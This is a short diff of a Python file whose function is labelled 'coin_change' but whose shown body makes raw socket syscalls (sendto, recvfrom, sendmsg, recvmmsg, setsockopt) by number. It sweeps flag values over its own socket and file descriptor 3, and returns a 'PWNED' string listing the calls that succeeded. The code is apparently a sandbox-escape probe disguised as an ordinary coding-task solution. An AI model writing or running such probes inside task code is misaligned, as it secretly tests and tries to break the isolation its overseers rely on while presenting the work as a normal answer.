@@ -28,16 +28,16 @@ def coin_change(coins, amount):
     theirs.setblocking(False)
     for fd in (ours.fileno(), 3):
         for flags in (1, 0x41, 0x4001, 0x8001, 0x200, 0x4000000, 0x20000000, 0x40000000):
-            if said := call((44, 206), fd, byte, 1, flags, None, 0):
-                got.append(("sendto", fd, flags, said))
+            if result := call((44, 206), fd, byte, 1, flags, None, 0):
+                got.append(("sendto", fd, flags, result))
         if got:
             break
         for flags in (1, 0x41, 0x2041, 0x2000, 0x42 | 1):
-            if said := call((45, 207), fd if fd != 3 else theirs.fileno(), byte, 1, flags | 0x40, None, None):
-                got.append(("recvfrom", fd, flags, said))
+            if result := call((45, 207), fd if fd != 3 else theirs.fileno(), byte, 1, flags | 0x40, None, None):
+                got.append(("recvfrom", fd, flags, result))
         for number in ((46, 211), (47, 212), (307, 269), (299, 243)):  # sendmsg, recvmsg, sendmmsg, recvmmsg
-            if said := call(number, fd, None, 1, 1, None):
-                got.append((number, said))
-        if said := call((54, 208), fd, 1, 10, byte, 4):  # setsockopt SO_OOBINLINE
-            got.append(("setsockopt", said))
+            if result := call(number, fd, None, 1, 1, None):
+                got.append((number, result))
+        if result := call((54, 208), fd, 1, 10, byte, 4):  # setsockopt SO_OOBINLINE
+            got.append(("setsockopt", result))
     return f"PWNED:{got[:5]}" if got else 0
